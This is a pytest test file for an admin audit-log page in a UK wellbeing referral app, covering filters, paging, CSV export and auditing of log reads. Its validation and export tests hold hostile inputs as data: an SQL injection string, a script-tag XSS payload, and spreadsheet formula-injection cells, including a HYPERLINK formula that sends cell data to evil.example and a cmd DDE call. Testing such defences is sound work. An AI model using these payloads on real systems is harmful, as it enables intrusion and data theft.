"""The audit log as administrators use it: referral references and people's names instead of
ids, filters by UK dates, who, action and reference (each, and together), pages, a CSV export
that spreadsheets cannot run, bad filters shown at their fields; reading it is itself audited."""

import csv
import io
import uuid
from datetime import UTC, datetime

import pytest

from tests.support.factories import make_user
from wellbeing.accounts.models import Role, User
from wellbeing.audit import AuditEvent
from wellbeing.extensions import db


def _event(
    actor: User | None,
    action: str,
    at: datetime,
    subject_type="referral",
    subject_id=None,
    **fields,
):
    event = AuditEvent(
        actor_id=actor.id if actor else None,
        actor_label=f"user:{actor.id}" if actor else "anonymous",
        action=action,
        subject_type=subject_type,
        subject_id=subject_id or str(uuid.uuid4()),
        at=at,
        **fields,
    )
    db.session.add(event)
    return event


def _rows(body: str) -> list[str]:
    """Each row of the events table, as its text."""
    if 'id="audit-events"' not in body:
        return []
    table = body.split('id="audit-events"')[1].split("</tbody>")[0]
    return table.split("<tbody")[1].split("</tr>")[:-1]


def _csv(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(response.get_data(as_text=True).removeprefix("\ufeff"))))


@pytest.fixture
def log(app, add_referral):
    """Two link workers reading two referrals on either side of midnight in summer (UK time is
    an hour ahead of UTC), and a self-referral made by nobody signed in."""
    priya = make_user(Role.LINK_WORKER, name="Priya Shah", email="priya@wellbeing.example.org")
    sam = make_user(Role.LINK_WORKER, name="Sam Lee", email="sam@wellbeing.example.org")
    first = add_referral("WB-7K3QF2")
    second = add_referral("WB-HX4M9P")
    _event(
        priya, "referral.view", datetime(2026, 7, 1, 22, 30, tzinfo=UTC), subject_id=first.id
    )  # 23:30 UK
    _event(
        priya, "referral.view", datetime(2026, 7, 1, 23, 30, tzinfo=UTC), subject_id=second.id
    )  # 2 July
    _event(sam, "referral.view", datetime(2026, 7, 2, 9, 0, tzinfo=UTC), subject_id=first.id)
    _event(sam, "referral.assign", datetime(2026, 7, 2, 9, 5, tzinfo=UTC), subject_id=first.id)
    db.session.commit()
    return {"priya": priya, "sam": sam, "first": first, "second": second}


def test_events_show_references_and_people_not_ids(client, login_as, log) -> None:
    login_as("admin")
    body = client.get("/admin/audit?action=referral.view").get_data(as_text=True)
    rows = _rows(body)
    assert len(rows) == 3
    newest = rows[0]
    assert f'<a href="/referrals/{log["first"].id}">WB-7K3QF2</a>' in newest
    assert "Sam Lee" in newest and "sam@wellbeing.example.org" in newest
    assert "2 Jul 2026, 10:00:00" in newest  # UK time
    assert log["first"].id not in newest.replace(f'/referrals/{log["first"].id}"', "")
    assert f"user:{log['sam'].id}" not in newest


def test_who_acted_when_nobody_was_signed_in(client, login_as, log) -> None:
    login_as("admin")
    rows = _rows(client.get("/admin/audit?action=referral.create").get_data(as_text=True))
    assert len(rows) == 2 and all("Not signed in" in row for row in rows)


def test_an_event_about_an_account_links_to_its_page(client, login_as, log) -> None:
    admin = login_as("admin")
    _event(admin, "user.disable", datetime(2026, 7, 3, tzinfo=UTC), "user", str(log["sam"].id))
    db.session.commit()
    (row,) = _rows(client.get("/admin/audit?action=user.disable").get_data(as_text=True))
    assert f'<a href="/admin/users/{log["sam"].id}">Sam Lee</a>' in row


def _count(client, query: str) -> int:
    response = client.get(f"/admin/audit?{query}")
    assert response.status_code == 200, response.get_data(as_text=True)[:2000]
    return len(_rows(response.get_data(as_text=True)))


@pytest.mark.parametrize(
    ("query", "count"),
    [
        ("action=referral.view", 3),
        ("action=referral.assign", 1),
        ("from=02/07/2026&action=referral.view", 2),  # 00:30 and 10:00 UK time on 2 July
        ("to=01/07/2026&action=referral.view", 1),  # 23:30 UK time on 1 July
        ("from=2026-07-01&to=2026-07-01&action=referral.view", 1),
        ("from=1/7/2026&to=2/7/2026&action=referral.view", 3),
        ("actor=priya@wellbeing.example.org", 2),
        ("actor=PRIYA@Wellbeing.Example.org", 2),
        ("actor=+sam@wellbeing.example.org+", 2),
        ("reference=WB-7K3QF2&action=referral.view", 2),
        ("reference=wb-7k3qf2&action=referral.view", 2),
        ("reference=7k3qf2&action=referral.view", 2),
        ("reference=+WB7K3QF2+&action=referral.view", 2),
        ("reference=WB-7K3QF2", 4),  # with its creation
        (
            "actor=sam@wellbeing.example.org&action=referral.view&reference=wb-7k3qf2&from=02/07/2026&to=02/07/2026",
            1,
        ),
        ("actor=priya@wellbeing.example.org&reference=WB-HX4M9P", 1),
        ("actor=priya@wellbeing.example.org&action=referral.assign", 0),
        ("actor=anonymous", 2),
    ],
)
def test_filters(client, login_as, log, query, count) -> None:
    login_as("admin")
    assert _count(client, query) == count


def test_a_link_by_account_id_shows_its_email(client, login_as, log) -> None:
    login_as("admin")
    body = client.get(f"/admin/audit?actor=user:{log['priya'].id}").get_data(as_text=True)
    assert len(_rows(body)) == 2
    assert 'value="priya@wellbeing.example.org"' in body


def test_the_action_filter_lists_the_actions_in_the_log(client, login_as, log) -> None:
    login_as("admin")
    body = client.get("/admin/audit").get_data(as_text=True)
    select = body.split('id="action"')[1].split("</select>")[0]
    assert '<option value="referral.assign"' in select and '<option value="referral.view"' in select
    assert "user.disable" not in select


@pytest.mark.parametrize(
    ("query", "field", "message"),
    [
        ("from=31/02/2026", "from", "Enter a real date"),
        ("from=yesterday", "from", "Enter a real date"),
        ("to=0001-01-01", "to", "Enter a date from 2000"),
        ("to=9999-12-31", "to", "Enter a date from 2000"),
        ("from=9999-12-31T23:59:59", "from", "Enter a real date"),
        ("from=02/07/2026&to=01/07/2026", "to", "same as or after the From"),
        (
            "actor=nobody@example.org",
            "actor",
            "No account has the email address nobody@example.org",
        ),
        ("actor=user:99999999999999999999", "actor", "Enter the email address"),
        ("actor=' OR 1=1 --", "actor", "Enter the email address"),
        ("action=referral.delete_everything", "action", "Choose an action from the list"),
        ("reference=WB-0000", "reference", "Enter a reference like WB-7K3QF2"),
        ("reference=WB-2222222", "reference", "Enter a reference like WB-7K3QF2"),
        ("reference=WB-ZZZZZZ", "reference", "No referral has the reference WB-ZZZZZZ"),
        ("reference=<script>alert(1)</script>", "reference", "Enter a reference like WB-7K3QF2"),
        ("actor=" + "a" * 2_000, "actor", "254"),
        ("from=" + "1" * 2_000, "from", "20"),
    ],
)
def test_a_bad_filter_is_a_message_at_its_field(
    client, login_as, log, query, field, message
) -> None:
    login_as("admin")
    for path in ("/admin/audit", "/admin/audit.csv"):
        response = client.get(f"{path}?{query}")
        assert response.status_code == 422
        body = response.get_data(as_text=True)
        assert "There is a problem" in body and f'href="#{field}"' in body
        error = body.split(f'id="{field}-error"')[1].split("</span>\n</span>")[0]
        assert message in error
        assert "<script>alert(1)" not in body


def test_pages_keep_the_filters(client, login_as) -> None:
    login_as("admin")
    worker = make_user(Role.LINK_WORKER, email="busy@wellbeing.example.org")
    for minute in range(55):
        _event(worker, "referral.view", datetime(2026, 7, 1, 9, minute, tzinfo=UTC))
    _event(worker, "referral.list", datetime(2026, 7, 1, 10, 0, tzinfo=UTC))
    db.session.commit()
    query = "action=referral.view&actor=busy%40wellbeing.example.org"
    first = client.get(f"/admin/audit?{query}").get_data(as_text=True)
    assert len(_rows(first)) == 50 and "55 events match the filters" in first
    assert "page=2&amp;actor=busy@wellbeing.example.org&amp;action=referral.view" in first
    second = client.get(f"/admin/audit?{query}&page=2").get_data(as_text=True)
    assert len(_rows(second)) == 5


def test_the_csv_holds_the_filtered_events_with_names_and_references(client, login_as, log) -> None:
    login_as("admin")
    link = client.get("/admin/audit?reference=wb-7k3qf2&action=referral.view").get_data(
        as_text=True
    )
    assert 'href="/admin/audit.csv?action=referral.view&amp;reference=WB-7K3QF2"' in link
    response = client.get("/admin/audit.csv?reference=wb-7k3qf2&action=referral.view")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    assert "attachment;" in response.headers["Content-Disposition"]
    assert response.headers["Cache-Control"] == "no-store"
    head, *rows = _csv(response)
    assert head[:6] == [
        "When (UK time)",
        "When (UTC)",
        "Actor",
        "Actor name",
        "Actor email",
        "Action",
    ]
    assert [row[3] for row in rows] == ["Sam Lee", "Priya Shah"]
    assert rows[0][:9] == [
        "2026-07-02 10:00:00",
        "2026-07-02T09:00:00+00:00",
        f"user:{log['sam'].id}",
        "Sam Lee",
        "sam@wellbeing.example.org",
        "referral.view",
        "referral",
        log["first"].id,
        "WB-7K3QF2",
    ]


HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
]


def test_csv_cells_a_spreadsheet_would_run_are_neutralised(client, login_as) -> None:
    login_as("admin")
    for name in HOSTILE:
        _event(
            make_user(Role.LINK_WORKER, name=name),
            "referral.view",
            datetime(2026, 7, 1, tzinfo=UTC),
        )
    _event(
        None, "report.view", datetime(2026, 7, 1, tzinfo=UTC), "report", "=1+1", ip_address="@evil"
    )
    db.session.commit()
    _head, *rows = _csv(client.get("/admin/audit.csv"))
    names = {row[3] for row in rows if row[5] == "referral.view"}
    assert names == {"'" + name for name in HOSTILE}
    (report,) = [row for row in rows if row[5] == "report.view"]
    assert report[7] == "'=1+1" and report[9] == "'@evil"


def test_reading_and_exporting_the_log_are_audited_without_emails(client, login_as, log) -> None:
    admin = login_as("admin")
    query = "actor=priya@wellbeing.example.org&reference=wb-hx4m9p&from=01/07/2026"
    client.get(f"/admin/audit?{query}")
    client.get(f"/admin/audit.csv?{query}")
    events = {
        event.action: event
        for event in db.session.execute(
            db.select(AuditEvent).where(AuditEvent.action.in_(["audit.view", "audit.export"]))
        ).scalars()
    }
    filters = {"actor": f"user:{log['priya'].id}", "reference": "WB-HX4M9P", "from": "2026-07-01"}
    assert events["audit.view"].actor_id == admin.id
    assert events["audit.view"].detail == {**filters, "page": 1}
    assert events["audit.export"].detail == {**filters, "rows": 1}
    assert "@" not in str(events["audit.view"].detail)


def test_a_refused_filter_is_not_audited_as_a_read(client, login_as) -> None:
    login_as("admin")
    client.get("/admin/audit?from=never")
    assert db.session.execute(db.select(AuditEvent).filter_by(action="audit.view")).first() is None
